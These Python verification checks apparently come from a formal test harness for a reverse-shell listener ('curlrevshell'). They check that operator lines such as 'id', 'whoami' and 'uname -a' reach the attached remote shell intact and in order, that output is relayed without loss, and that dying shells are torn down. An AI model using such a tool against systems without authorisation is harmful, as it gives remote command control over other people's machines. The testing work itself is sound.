                      "last hop (lib/opshell): UTF-8 text, random non-UTF-8 bytes, control bytes, runes straddling the 2048-byte read boundary, cut into "
                      "one chunk / single bytes / 2048-byte reads / random reads, sent as Plain lines to the real Shell with its output captured; also with the "
                      "whole Shell.Do running and a real SIGWINCH after every chunk (prompt redraws stripped); "
                      "non-trivial = contains non-ASCII bytes (tag 2: a chunk boundary inside a multi-byte sequence)",
                      key_fn=lambda c: json.dumps(c["chunks"]))


CLAUSES = {3: "C03 monitor failed: what was shown is not a prefix of what the attached shell sent (bytes lost, duplicated, reordered or modified), or "
              "a stream that ended by itself did not have everything shown before its close notice"}


def read_scripts(rng, n):
    out = []
    sizes = [0, 1, 2, 3, 100, 2047, 2048, 2049, 4096, 5000]
    for k in range(n):
        ops = [{"op": "admit", "s": 1, "d": "out", "key": B.K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1}]
        if k % 2:
            ops.append({"op": "admit", "s": 2, "d": "in", "key": B.K(b"a"), "wk": "both", "wfail": -1, "ffail": -1})
        for j in range(rng.randrange(0, 7)):
            sz = rng.choice(sizes)
            ops.append({"op": "data", "s": 1, "d": B.K(bytes((j * 31 + i * 7 + k) % 256 for i in range(sz))), "err": ""})
        end = rng.choice(["eof", "ueof", "closedpipe", "other", "cancel", "none"])
        if end == "cancel":
            ops.append({"op": "cancel", "s": 1})
        elif end != "none":
            sz = rng.choice([0, 0, 1, 10, 2048, 3000])
            ops.append({"op": "data", "s": 1, "d": B.K(bytes((i * 11 + k) % 256 for i in range(sz))), "err": end})
        ops += [{"op": "data", "s": 1, "d": B.K(b"after the end"), "err": ""}, {"op": "release", "s": 1}]
        out.append(ops)
    # long runs of zero-length reads (a transport that keeps returning (0, nil)) between and before data: nothing may end the stream
    for nempty in (99, 100, 101, 250):
        ops = [{"op": "admit", "s": 1, "d": "out", "key": B.K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1}]
        ops += [{"op": "data", "s": 1, "d": "", "err": ""}] * nempty
        ops += [{"op": "data", "s": 1, "d": B.K(b"after the empty reads"), "err": ""}]
        ops += [{"op": "data", "s": 1, "d": "", "err": ""}] * nempty
        ops += [{"op": "data", "s": 1, "d": B.K(b"and again"), "err": "eof"}, {"op": "release", "s": 1}]
        out.append(ops)
    return out


def stalled(rng, n):
    """Small operator channel, drained at scripted moments: chunks wait inside the broker while later reads happen."""
    out = []
    for k in range(n):
        cap = rng.choice([1, 2, 3])
        ops = [{"op": "admit", "s": 1, "d": "out", "key": B.K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1}, {"op": "drain", "n": 8}]
        for j in range(rng.randrange(2, 9)):
            ops.append({"op": "data", "s": 1, "d": B.K(b"chunk-%02d-%d|" % (j, k) * rng.choice([1, 1, 150])), "err": ""})
            if rng.randrange(3) == 0:
                ops.append({"op": "drain", "n": rng.randrange(1, 3)})
        ops.append({"op": "data", "s": 1, "d": B.K(b"tail" if rng.randrange(2) else b""), "err": rng.choice(["eof", "ueof", "other"])})
        ops += [{"op": "drain", "n": 64}] * 14
        out.append({"ops": ops, "ochcap": cap})
    return out


def check(run):
    vlib.static_obligations(run)
    binp = B.build(run)
    if not binp:
        return
    n = 300 if run.tier == "quick" else 5000
    B.run_stream(run, binp, "readscripts", 3, read_scripts(run.rng, n), CLAUSES,
                 "read scripts (incl. runs of 99-250 zero-length reads): 0-6 reads of 0/1/2/3/100/2047/2048/2049/4096/5000 bytes (the broker's buffer is 2048), zero-length reads, then the "
                 "stream ends with EOF / unexpected EOF / closed pipe / other error - with 0..3000 bytes returned TOGETHER with the error - or by "
                 "client cancel, or not at all; output offered after the end must not be shown")
    B.run_stream(run, binp, "stalled", 3, stalled(run.rng, 60 if run.tier == "quick" else 1500), CLAUSES,
                 "slow operator terminal: operator channel of capacity 1-3 drained at scripted moments while 2-8 further reads arrive, so chunks wait "
                 "inside the broker; monitor only (shown = prefix of sent; all shown once drained after a self-end) - the model has an unbounded channel")
    hs = [B.gen_history(run.rng, run.rng.choice([10, 20, 40])) for _ in range(200 if run.tier == "quick" else 4000)]
    B.run_stream(run, binp, "histories", 3, hs, CLAUSES, "random histories (see C01)")
    terminal_stream(run)
    run.assumptions += ["x/term's Terminal.Write passes bytes through while no line is being edited (the harness does not run ReadLine); the pty's own "
                        "output processing (ONLCR) is outside the program",
                        "Ctrl+O muting happens after the operator channel (lib/opshell) and is C19's subject",
                        "relative speeds are explored as orders of reads, forwards and drains inside testing/synctest, not as wall-clock timing"]
    run.trusted += ["harness/overlay/iobroker", "props/brokerlib.py", "coq/Model/Broker.v tied by this correspondence",
                    "harness/overlay/opshell/zz_verif_plain_test.go, coq/Model/Terminal.v"]


def replay(run, path):
    return B.replay(run, path, 3)
