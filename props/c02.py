"""C02 - operator input reaches the attached shell intact, in order and promptly."""
import itertools, json, os
import brokerlib as B
import vlib

IIMPORTS = "From CRS Require Import Lib.Bytes Judge.Common Judge.C02In."
ICLAUSES = {1: "a Ctrl+I / Tab insert did not reach the line channel as ONE intact line (split, altered, lost or duplicated)",
            2: "lines entered did not come out as a gap-free, in-order run of what was entered (complete, when nothing stops the program)",
            11: "Judge/C02In.insert_lines differs from what Shell.insert sends"}


def held_over_http(run):
    """Lines entered while no shell is attached are held for the next shell - also across callbacks that attach one side and go away,
    and across a shell that dies with lines queued behind it (real Server, real TLS)."""
    ok, binp, log = vlib.build_overlay_test(run.rundir, "internal/hsrv", go="go")
    if not ok:
        run.oblige("hsrv harness builds against /repo", False, log)
        return
    H = lambda x: (x if isinstance(x, bytes) else x.encode()).hex()
    IN = lambda i: H("GET /i/%s HTTP/1.1\r\nHost: h\r\n\r\n" % i)
    OUT = lambda i: H("POST /o/%s HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n" % i)
    cases, wants = [], []
    for variant in ("half-out-goes-away", "half-out-twice", "nothing-in-between"):
        acts = [{"a": "line", "l": H(l), "quiet_ms": 20} for l in ("cd /tmp", "id")]
        if variant != "nothing-in-between":
            for rep in range(2 if variant == "half-out-twice" else 1):
                acts += [{"a": "open", "id": "h%d" % rep, "req": OUT("half%d" % rep), "quiet_ms": 120}, {"a": "close", "id": "h%d" % rep, "quiet_ms": 250}]
        acts += [{"a": "line", "l": H("uname -a"), "quiet_ms": 20},
                 {"a": "open", "id": "i", "req": IN("real"), "quiet_ms": 120}, {"a": "open", "id": "o", "req": OUT("real"), "quiet_ms": 200},
                 {"a": "peek", "id": "i", "quiet_ms": 10}, {"a": "close", "id": "o", "quiet_ms": 100}, {"a": "close", "id": "i", "quiet_ms": 200}]
        cases.append({"i": len(cases), "cfg": {}, "acts": acts, "_variant": variant})
    import concurrent.futures as cf
    with cf.ThreadPoolExecutor(max_workers=4) as ex:
        outs = list(ex.map(lambda c: vlib.run_overlay_test(binp, "TestVerifHsrv", [{k: v for k, v in c.items() if not k.startswith("_")}], run.rundir,
                                                            tag="c02held_%d" % c["i"], env=dict(os.environ, VERIF_TMP=run.rundir), timeout=300), cases))
    bad = []
    for c, (r, err) in zip(cases, outs):
        if err or not r:
            bad.append({"variant": c["_variant"], "error": str(err)}); continue
        peek = [a for a in r[0].get("acts") or [] if "ended" in a]
        got = bytes.fromhex((peek[0] if peek else {}).get("got", "") or "")
        body = got.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in got else b""
        import re
        text = b"".join(re.findall(rb"[0-9a-f]+\r\n(.*?)\r\n", body, re.S))      # de-chunk
        if text != b"cd /tmp\nid\nuname -a\n":
            bad.append({"variant": c["_variant"], "shell_received": text.decode(errors="replace"), "expected": "cd /tmp\nid\nuname -a\n"})
    for b in bad[:1]:
        run.violation("held-lines-lost", "lines entered while no shell was attached did not all reach the next shell, in order (real Server)",
                      {"stream": "held-http", "input": {"variant": b.get("variant")}, "detail": bad})
    run.oblige("real Server: lines entered before / between callbacks that attach only one side and go away are held, in order, for the next shell (%d scenarios)" % len(cases),
               not bad, json.dumps(bad)[:2000])
    run.stream("held-http", len(cases), len(cases), "two lines entered with no shell, an output-only callback that comes and goes (once, twice, or not at all), a third "
               "line, then a real shell over /i + /o: the input stream must carry the three lines in order", [{"variant": cases[0]["_variant"]}])


def operator_side(run):
    """lib/opshell, upstream of the broker: the real Shell.insert and the real Shell.Do line reader (pty child)."""
    ok, binp, log = vlib.build_overlay_test(run.rundir, "lib/opshell")
    run.checker_cmds.append("go1.26 test -c -tags verif -overlay (harness/overlay/opshell): TestVerifInput - the real Shell.insert with generated sources, the real "
                            "Shell.Do reading pasted lines from a pipe while nobody takes them from the line channel")
    if not ok:
        run.oblige("opshell harness builds against /repo", False, log)
        return
    sizes = [1, 100, 32767, 32768, 32769, 65536, 65537, 100000] + ([1 << 20] if run.tier != "quick" else [])
    cases = [{"i": k, "mode": "insert", "size": n} for k, n in enumerate(sizes)]
    for n in ([200, 1024, 1025, 3000] if run.tier == "quick" else [200, 1024, 1025, 3000, 5000, 20000]):
        cases.append({"i": len(cases), "mode": "paste", "lines": n})
    # a line which arrives inside bracketed-paste markers (the terminal was left in that mode): x/term hands it over together with ErrPasteIndicator.
    # Whatever the program makes of that, what the shell's side of the line channel receives must stay a gap-free, in-order run of what was entered.
    for n, at in ((6, 1), (6, 0), (40, 17), (3, 2)):
        cases.append({"i": len(cases), "mode": "paste", "lines": n, "bracket": at})
    inf, outf = os.path.join(run.rundir, "input.in"), os.path.join(run.rundir, "input.out")
    with open(inf, "w") as f:
        for c in cases:
            f.write(json.dumps(c) + "\n")
    env = dict(os.environ, VERIF_CASES=inf, VERIF_OUT=outf, VERIF_TMP=run.rundir)
    rc, out = vlib.run_under_pty([binp, "-test.run", "^TestVerifInput$", "-test.count=1", "-test.timeout", "600s"], env, run.rundir, timeout=700)
    res = [json.loads(l) for l in open(outf)] if os.path.exists(outf) else []
    if rc != 0 or len(res) != len(cases) or any(r.get("fail") for r in res):
        run.oblige("operator side: harness ran all cases under a pty", False, "rc=%s got %d of %d: %s" % (rc, len(res), len(cases), out[-1500:].decode(errors="replace")))
        return
    B_ = lambda x: str(bool(x)).lower()
    def term(c, r):
        if c["mode"] == "insert":
            return "mki false %d [%s] %s 0 true" % (c["size"], "; ".join(str(x) for x in r.get("items") or []), B_(r.get("concat_ok")))
        if "bracket" in c:        # only order and gap-freeness are demanded: the run may stop at the bracketed line
            return "mki true %d [] true %d %s" % (r.get("received", 0), r.get("received", 0), B_(r.get("first_out_of_order", 0) == -1))
        return "mki true %d [] true %d %s" % (c["lines"], r.get("received", 0), B_(r.get("first_out_of_order", 0) == -1))
    vlib.judge_stream(run, "operatorside", IIMPORTS, "icase", cases, res, term, ICLAUSES, (0,),
                      "operator side (lib/opshell): Ctrl+I inserts of 1 B ... 100000 B (thorough: 1 MiB) around io.Copy's 32 KiB buffer size, through the real "
                      "Shell.insert - exactly one intact line must reach the line channel; pastes of 200 - 3000 (thorough: 20000) lines through the real "
                      "Shell.Do while nobody takes lines for 400 ms (the 1024-deep channel fills) - all must come out, in order; non-trivial = above 32 KiB / "
                      "above the channel's depth; plus pastes in which one line arrives inside bracketed-paste markers (what comes out must be a gap-free in-order "
                      "run, it may stop there)", key_fn=lambda c: json.dumps(c))


CLAUSES = {2: "C02 monitor failed: lines taken from the operator are not a gap-free, duplicate-free, in-order run of the entered lines each followed by "
              "exactly one newline; a write was not followed by the flush its writer kind requires before the next line; a line entered while a "
              "healthy input stream was attached was not written and flushed at once; or a stream was written to after its own failure"}
LINES = [b"id", b"", b"echo 'x'", b"a\nb\nc", b"\x00\xff", b"x" * 5000, b"trailing\n", b"\r"]


def scripts():
    out = []
    for wk, wf, ff, pre in itertools.product(B.WK, (-1, 0, 1, 2), (-1, 0, 1), (0, 1, 2)):
        if wf >= 0 and ff >= 0:
            continue
        ops = [{"op": "line", "l": B.K(LINES[k % len(LINES)])} for k in range(pre)]
        ops.append({"op": "admit", "s": 1, "d": "in", "key": B.K(b"a"), "wk": wk, "wfail": wf, "ffail": ff})
        ops += [{"op": "line", "l": B.K(LINES[(k + 2) % len(LINES)])} for k in range(3)]
        ops += [{"op": "release", "s": 1}, {"op": "cancel", "s": 1}, {"op": "release", "s": 1}]
        ops += [{"op": "line", "l": B.K(b"held")}]
        ops.append({"op": "admit", "s": 2, "d": "in", "key": B.K(b"b"), "wk": wk, "wfail": -1, "ffail": -1})
        ops.append({"op": "line", "l": B.K(b"after")})
        out.append(ops)
    # time passes while the input side is attached and the operator is quiet (seconds, minutes, an hour): the shell receives nothing nobody entered
    for wk in B.WK:
        for both in (False, True):
            ops = [{"op": "admit", "s": 1, "d": "in", "key": B.K(b"a"), "wk": wk, "wfail": -1, "ffail": -1}]
            if both:
                ops.append({"op": "admit", "s": 2, "d": "out", "key": B.K(b"a")})
            ops += [{"op": "sleep", "ms": 45000}, {"op": "line", "l": B.K(b"id")}, {"op": "sleep", "ms": 29000}, {"op": "sleep", "ms": 2000},
                    {"op": "line", "l": B.K(b"whoami")}, {"op": "sleep", "ms": 3600000}, {"op": "line", "l": B.K(b"after an hour")},
                    {"op": "sleep", "ms": 61000}, {"op": "release", "s": 1}]
            out.append(ops)
    return out


def races(rng, n):
    """The client goes away at the very moment a line is entered (select may serve either): nothing may be lost."""
    out = []
    for k in range(n):
        ops = [{"op": "admit", "s": 1, "d": "in", "key": B.K(b"a"), "wk": rng.choice(B.WK), "wfail": -1, "ffail": -1}]
        if k % 2:
            ops.append({"op": "admit", "s": 2, "d": "out", "key": B.K(b"a")})
        ops += [{"op": "line", "l": B.K(b"L%d" % j)} for j in range(rng.randrange(0, 3))]
        if k % 4 < 3:
            # the proxy is inside Write when the context ends and the next line arrives: afterwards both are ready at once
            ops += [{"op": "armw", "s": 1}, {"op": "line", "l": B.K(b"BUSY")}, {"op": "cancelline", "s": 1, "l": B.K(b"RACE")}, {"op": "relw", "s": 1}]
        else:
            ops.append({"op": "cancelline", "s": 1, "l": B.K(b"RACE")})
        ops += [{"op": "release", "s": 1}]
        if k % 2:
            ops += [{"op": "release", "s": 2}]
        ops += [{"op": "line", "l": B.K(b"held")}, {"op": "admit", "s": 3, "d": "in", "key": B.K(b"b"), "wk": "both", "wfail": -1, "ffail": -1},
                {"op": "line", "l": B.K(b"after")}]
        out.append({"ops": ops, "nocorr": True})
    return out


def check(run):
    vlib.static_obligations(run)
    binp = B.build(run)
    if not binp:
        return
    B.run_stream(run, binp, "writerscripts", 2, scripts(), CLAUSES,
                 "EXHAUSTIVE writer scripts: 4 writer kinds (plain, Flusher, FlushError, both) x write failure at line 0/1/2/never x flush failure at "
                 "0/1/never x 0-2 lines entered before the shell attaches, then 3 lines, detach, a held line, a second shell, one more line; lines "
                 "include empty, multi-line insert, NUL/0xFF, 5000 bytes")
    B.run_stream(run, binp, "races", 2, races(run.rng, 80 if run.tier == "quick" else 2000), CLAUSES,
                 "the input stream's client context ends at the very moment a line is entered (both become ready before the proxy runs; Go's select "
                 "serves either): the line must reach the detaching shell or be held for the next one; judged by the monitor only (both outcomes "
                 "are acceptable, so the model does not predict them); repeated so that both select outcomes occur")
    n = 400 if run.tier == "quick" else 6000
    hs = [B.gen_history(run.rng, run.rng.choice([10, 20, 40])) for _ in range(n)]
    B.run_stream(run, binp, "histories", 2, hs, CLAUSES, "random histories with shells attaching and detaching while lines are entered (see C01)")
    src = open(os.path.join(vlib.REPO, "curlrevshell.go")).read()
    import re as _re
    m = _re.search(r"ich\s*=\s*make\(chan string,\s*(\d+)\)", src)
    run.oblige("source obligation: the program's line channel has depth 1024 (the depth the operator-side harness and model cases use)",
               bool(m) and m.group(1) == "1024", "found %s" % (m.group(1) if m else None))
    operator_side(run)
    held_over_http(run)
    run.assumptions += ["that http.ResponseWriter.FlushError pushes the bytes onto the network is net/http's business; the harness observes that the "
                        "flush is CALLED after every write and before the next line is taken",
                        "when a line and a cancellation are ready at the same time Go's select may take either; the harness never creates that race "
                        "(every step runs to quiescence), both outcomes satisfy the statement"]
    run.trusted += ["harness/overlay/opshell/zz_verif_input_test.go, coq/Judge/C02In.v"]
    run.trusted += ["harness/overlay/iobroker", "props/brokerlib.py", "coq/Model/Broker.v tied by this correspondence"]


def replay(run, path):
    return B.replay(run, path, 2)
