"""C02 - operator input reaches the attached shell intact, in order and promptly."""
import itertools
import brokerlib as B
import vlib

CLAUSES = {2: "C02 monitor failed: lines taken from the operator are not a gap-free, duplicate-free, in-order run of the entered lines each followed by "
              "exactly one newline; a write was not followed by the flush its writer kind requires before the next line; a line entered while a "
              "healthy input stream was attached was not written and flushed at once; or a stream was written to after its own failure"}
LINES = [b"id", b"", b"echo 'x'", b"a\nb\nc", b"\x00\xff", b"x" * 5000, b"trailing\n", b"\r"]


def scripts():
    out = []
    for wk, wf, ff, pre in itertools.product(B.WK, (-1, 0, 1, 2), (-1, 0, 1), (0, 1, 2)):
        if wf >= 0 and ff >= 0:
            continue
        ops = [{"op": "line", "l": B.K(LINES[k % len(LINES)])} for k in range(pre)]
        ops.append({"op": "admit", "s": 1, "d": "in", "key": B.K(b"a"), "wk": wk, "wfail": wf, "ffail": ff})
        ops += [{"op": "line", "l": B.K(LINES[(k + 2) % len(LINES)])} for k in range(3)]
        ops += [{"op": "release", "s": 1}, {"op": "cancel", "s": 1}, {"op": "release", "s": 1}]
        ops += [{"op": "line", "l": B.K(b"held")}]
        ops.append({"op": "admit", "s": 2, "d": "in", "key": B.K(b"b"), "wk": wk, "wfail": -1, "ffail": -1})
        ops.append({"op": "line", "l": B.K(b"after")})
        out.append(ops)
    return out


def races(rng, n):
    """The client goes away at the very moment a line is entered (select may serve either): nothing may be lost."""
    out = []
    for k in range(n):
        ops = [{"op": "admit", "s": 1, "d": "in", "key": B.K(b"a"), "wk": rng.choice(B.WK), "wfail": -1, "ffail": -1}]
        if k % 2:
            ops.append({"op": "admit", "s": 2, "d": "out", "key": B.K(b"a")})
        ops += [{"op": "line", "l": B.K(b"L%d" % j)} for j in range(rng.randrange(0, 3))]
        if k % 4 < 3:
            # the proxy is inside Write when the context ends and the next line arrives: afterwards both are ready at once
            ops += [{"op": "armw", "s": 1}, {"op": "line", "l": B.K(b"BUSY")}, {"op": "cancelline", "s": 1, "l": B.K(b"RACE")}, {"op": "relw", "s": 1}]
        else:
            ops.append({"op": "cancelline", "s": 1, "l": B.K(b"RACE")})
        ops += [{"op": "release", "s": 1}]
        if k % 2:
            ops += [{"op": "release", "s": 2}]
        ops += [{"op": "line", "l": B.K(b"held")}, {"op": "admit", "s": 3, "d": "in", "key": B.K(b"b"), "wk": "both", "wfail": -1, "ffail": -1},
                {"op": "line", "l": B.K(b"after")}]
        out.append({"ops": ops, "nocorr": True})
    return out


def check(run):
    vlib.static_obligations(run)
    binp = B.build(run)
    if not binp:
        return
    B.run_stream(run, binp, "writerscripts", 2, scripts(), CLAUSES,
                 "EXHAUSTIVE writer scripts: 4 writer kinds (plain, Flusher, FlushError, both) x write failure at line 0/1/2/never x flush failure at "
                 "0/1/never x 0-2 lines entered before the shell attaches, then 3 lines, detach, a held line, a second shell, one more line; lines "
                 "include empty, multi-line insert, NUL/0xFF, 5000 bytes")
    B.run_stream(run, binp, "races", 2, races(run.rng, 80 if run.tier == "quick" else 2000), CLAUSES,
                 "the input stream's client context ends at the very moment a line is entered (both become ready before the proxy runs; Go's select "
                 "serves either): the line must reach the detaching shell or be held for the next one; judged by the monitor only (both outcomes "
                 "are acceptable, so the model does not predict them); repeated so that both select outcomes occur")
    n = 400 if run.tier == "quick" else 6000
    hs = [B.gen_history(run.rng, run.rng.choice([10, 20, 40])) for _ in range(n)]
    B.run_stream(run, binp, "histories", 2, hs, CLAUSES, "random histories with shells attaching and detaching while lines are entered (see C01)")
    run.assumptions += ["that http.ResponseWriter.FlushError pushes the bytes onto the network is net/http's business; the harness observes that the "
                        "flush is CALLED after every write and before the next line is taken",
                        "when a line and a cancellation are ready at the same time Go's select may take either; the harness never creates that race "
                        "(every step runs to quiescence), both outcomes satisfy the statement"]
    run.trusted += ["harness/overlay/iobroker", "props/brokerlib.py", "coq/Model/Broker.v tied by this correspondence"]


def replay(run, path):
    return B.replay(run, path, 2)
