"""C04 - a dying shell is torn down completely, announced once, and the listener re-arms."""
import json, os
import brokerlib as B
import vlib

CLAUSES = {4: "C04 monitor failed: ready/connected not exactly at full attachment, 'gone'/disconnected not exactly once when the last stream "
              "returned, peer not ended by a release without further traffic, idle broker refused an attempt, Do returned early, "
              "a broker goroutine still running after all transports were closed, or the broker never became quiescent"}


def flood(rng, nchunks, end, cap):
    ops = [{"op": "admit", "s": 1, "d": "out", "key": B.K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1}, {"op": "drain", "n": 8}]
    if rng.randrange(2):
        ops += [{"op": "admit", "s": 2, "d": "in", "key": B.K(b"a"), "wk": "both", "wfail": -1, "ffail": -1}, {"op": "drain", "n": 8}]
    for k in range(nchunks):
        ops.append({"op": "data", "s": 1, "d": B.K(b"chunk%02d " % k * rng.choice([1, 200])), "err": ""})
    if end:
        ops.append({"op": "data", "s": 1, "d": B.K(b"last" if rng.randrange(2) else b""), "err": end})
    ops.append({"op": "cancel", "s": 1})
    return {"ops": ops, "ochcap": cap}


def check(run):
    vlib.static_obligations(run)
    binp = B.build(run)
    if not binp:
        return
    depth = 4 if run.tier == "quick" else 5
    B.run_stream(run, binp, "smallscope", 4, B.small_scope(depth), CLAUSES,
                 "EXHAUSTIVE small scope: every operation list up to depth %d over {admit in/out id a/b, end in/out, release in/out, line, shutdown}" % depth)
    n = 400 if run.tier == "quick" else 6000
    hs = [B.gen_history(run.rng, run.rng.choice([12, 25, 40, 80])) for _ in range(n)]
    B.run_stream(run, binp, "histories", 4, hs, CLAUSES,
                 "random histories incl. every kind of ending (EOF, unexpected EOF, closed pipe, other error, client cancel, operator input closed, "
                 "write/flush failure), either direction first or both before any release, half and full attachment, series of shells "
                 "(up to 80 operations), shutdown at random points")
    fl = [flood(run.rng, k, e, cap) for k in (0, 1, 2, 3, 4, 6, 9) for e in ("", "eof", "other", "ueof") for cap in (1, 2, 3)]
    B.run_stream(run, binp, "flood", 4, fl, CLAUSES,
                 "output flood with a STALLED operator terminal (operator channel of capacity 1-3, never drained), 0-9 chunks in flight, then "
                 "EOF / error / nothing, then client cancel; checked by the monitor only (goroutine dump after every transport is closed must show "
                 "no broker goroutine; the bubble must not dead-lock) - the model does not describe a bounded operator channel")
    # the last hop: the closure and 'gone' notices reach the TERMINAL also while the operator has muted a flood (Ctrl+O)
    import c19
    okm, mbin, mlog = vlib.build_overlay_test(run.rundir, "lib/opshell")
    if not okm:
        run.oblige("opshell harness builds against /repo", False, mlog)
    else:
        evs = []
        for gap in (0, 1, 500, 1999):
            evs.append(c19.with_tail([{"t": 0, "ev": "p"}, {"t": 10, "ev": "o"}, {"t": 10 + gap, "ev": "p"}, {"t": 11 + gap, "ev": "s"}, {"t": 12 + gap, "ev": "s"},
                                      {"t": 13 + gap, "ev": "s"}, {"t": 14 + gap, "ev": "l"}]))
        mc = [{"i": k, "events": e} for k, e in enumerate(evs)]
        rc3, out3, mres = c19.run_cases(run, mbin, mc, "mutednotices")
        if rc3 != 0 or len(mres) != len(mc) or any(r.get("fail") for r in mres):
            run.oblige("muted notices: harness ran under a pty", False, "rc=%s %s" % (rc3, out3[-800:].decode(errors="replace")))
        else:
            vlib.judge_stream(run, "mutednotices", c19.IMPORTS, "case", mc, mres, c19.term,
                              {1: "a closure / 'shell is gone' notice (a status line) was not written to the terminal while shell output was muted with Ctrl+O",
                               10: "mute model and implementation differ"}, (),
                              "the operator mutes a flood (Ctrl+O), the shell dies 0 / 1 / 500 / 1999 ms later: the two closure notices, the 'gone' notice and the "
                              "re-printed help (status lines) must all be written to the terminal by the real Shell (virtual time, pty child)",
                              key_fn=lambda c: json.dumps(c["events"]))
    # schedules in which callers queue on the broker's mutex (real scheduler; see harness/overlay/iobroker/zz_verif_race_test.go)
    outf = os.path.join(run.rundir, "race.json")
    rounds = 30 if run.tier == "quick" else 1500
    try:
        rc, o, e = vlib.sh([binp, "-test.run", "^TestVerifShutdownRace$", "-test.count=1"], cwd=run.rundir, timeout=900,
                           env=dict(os.environ, VERIF_OUT=outf, VERIF_RACE=str(rounds)))
        st = json.load(open(outf))
    except Exception as ex:
        rc, st = 1, {"error": str(ex)}
    for b in (st.get("late_attached") or [])[:1]:
        run.violation("shutdown-race-late-attach", "an attempt made while the program was shutting down was attached: Broker.Do had returned and the stream was "
                      "still attached and running (terminal stalled inside an admission, shutdown and the attempt queued on the mutex)",
                      {"stream": "shutdownrace", "input": {"rounds": rounds}, "detail": b})
    run.oblige("shutdown race: %d rounds (stalled terminal holds the admission section; shutdown and a late attempt queue on the mutex; terminal "
               "resumes) - once Do has returned nothing is attached" % rounds,
               rc == 0 and not st.get("late_attached") and "error" not in st, json.dumps(st)[:1500])
    run.cov["shutdown_race"] = {k: st.get(k) for k in ("rounds", "do_returned_first", "attempt_admitted_first")}
    # the HTTP level, with and without -one-shell: half-attached shells which end (a disconnected event with no connected one before it) must leave the
    # listener as freshly started - still open, the next shell accepted and announced ready
    import c12
    c12.watcher_obligation(run)       # what the program does with connected / disconnected events, read off the source
    okh, hbin, hlog = vlib.build_overlay_test(run.rundir, "internal/hsrv", go="go")
    if not okh:
        run.oblige("hsrv harness builds against /repo", False, hlog)
    else:
        hc = [c12.scenario(run.rng, one, kind, pre) for one in (True, False) for kind, pre in (("in-out", ["half-in"]), ("io", ["half-out"]), ("out-in", ["half-in", "half-out", "half-in"]))]
        if run.tier != "quick":
            hc += [c12.scenario(run.rng, one, kind, pre) for one in (True, False) for kind in ("in-out", "out-in", "io") for pre in (["half-out", "half-out"], ["half-in", "refused"], ["refused", "half-out"])]
        hsend = [{k: v for k, v in c.items() if not k.startswith("_")} for c in hc]
        import concurrent.futures as cf
        def hone(k):
            return vlib.run_overlay_test(hbin, "TestVerifHsrv", [dict(hsend[k], i=k)], run.rundir, tag="c04h_%d" % k, env=dict(os.environ, VERIF_TMP=run.rundir), timeout=300)
        with cf.ThreadPoolExecutor(max_workers=8) as ex:
            houts = list(ex.map(hone, range(len(hsend))))
        hres = [o[0][0] if o[0] else None for o in houts]
        if any(o[1] for o in houts) or any(r is None for r in hres):
            run.oblige("hsrv harness ran the half-attached scenarios", False, str([o[1] for o in houts if o[1]][:2]))
        else:
            hin = [dict(c["_desc"], probes=[(m[1], a.get("open")) for m, a in zip(c["_marks"], r.get("acts") or []) if m[0] == "probe"]) for c, r in zip(hc, hres)]
            vlib.judge_stream(run, "halfattached", c12.IMPORTS, "case", hin, hres, lambda i, r: c12.term(hc[hin.index(i)], r),
                              {1: "after a half-attached shell had ended (a disconnected event without a connected one) the listener was not as freshly started: "
                                  "its socket refused connections before any shell was fully attached, or stayed open after the one shell was ready",
                               2: "callback help offered again after the one shell", 3: "Server.Do did not end by itself after the one shell",
                               4: "the shell attached after half-attached ones did not work"}, (),
                              "real Server over TLS with and without -one-shell: one to three half-attached shells (/i or /o alone) come and go, the listening "
                              "socket is probed with connect(2) after each, then a full shell attaches (/i+/o, /o+/i or /io), works and ends",
                              key_fn=lambda i: json.dumps(i["before"]) + i["attach"] + str(i["one_shell"]),
                              confirm=lambda idxs: [(hone(k)[0] or [None])[0] for k in idxs])
    # event listeners which come and go (library use): shells live and die unheard, then somebody listens
    plans = [[0, 0], [1, 0], [2, 3], [0, 1], [600, 1]] if run.tier == "quick" else [[a, b] for a in (0, 1, 2, 5) for b in (0, 1, 4)] + [[600, 1], [1500, 600]]
    # capacity of each window's listener channel: EVChanLen, or 1 / 2 (such a listener reads only after its shell has gone: the pump must wait for it)
    caps = [[[1024, 1], [1, 1024], [2, 1], [1, 1], [1024, 1]][k % 5] for k in range(len(plans))]
    outl = os.path.join(run.rundir, "listen.json")
    try:
        rc, o, e = vlib.sh([binp, "-test.run", "^TestVerifListeners$", "-test.count=1"], cwd=run.rundir, timeout=900,
                           env=dict(os.environ, VERIF_OUT=outl, VERIF_LISTEN=json.dumps(plans), VERIF_LISTEN_CAPS=json.dumps(caps)))
        lres = json.load(open(outl))
    except Exception as ex:
        rc, lres = 1, [{"plan": None, "problem": "harness: %s" % ex, "windows": []}]
    if rc != 0 or len(lres) != len(plans) or any(str(r.get("problem", "")).startswith("harness") for r in lres):
        run.oblige("listeners harness ran", False, json.dumps(lres)[:1500])
    else:
        evn = {"connected": "0%N", "disconnected": "1%N"}
        def lterm(pl, r):
            wins = "; ".join("[%s]" % "; ".join(evn.get(e, "9%N") for e in w) for w in r.get("windows") or [])
            return "mkl [%s] [%s] [%s] %s" % ("; ".join("%d%%N" % n for n in pl), "; ".join("%d%%N" % n for n in caps[plans.index(pl)]), wins,
                                             "true" if r.get("problem") else "false")
        vlib.judge_stream(run, "listeners", "From CRS Require Import Lib.Bytes Model.Events Judge.Common Judge.Listen.", "lcase", plans, lres, lterm,
                          {1: "in a series of shells with event listeners coming and going a shell was not accepted, not torn down or not announced exactly once",
                           2: "a listener which registered after shells had lived and died unheard did not get exactly one connected and one disconnected event "
                              "for the next shell", 11: "Model/Events.plan_windows differs from what the listeners of the real Broker received",
                           12: "Model/EventsCap.cplan_windows (listener channels of capacity 1 / 2 / 1024) differs from what the listeners received"}, (0,),
                          "event listeners come and go (real scheduler): per plan, twice: 0 to 1500 shells in series with nobody listening (ending by EOF / input "
                          "cancel / output cancel), then a listener registers (channel of capacity 1024, 2 or 1 - read only after the shell has gone), one shell lives and dies, the listener leaves; each listener must have received "
                          "exactly [connected, disconnected] = Model/Events.plan_windows", key_fn=lambda pl: json.dumps(pl))
    run.assumptions += ["'nothing keeps running' is observed as: no goroutine with a Broker frame after all readers returned EOF and all contexts were "
                        "cancelled, inside testing/synctest; the proof side covers the bookkeeping (slots, key, wait group)"]
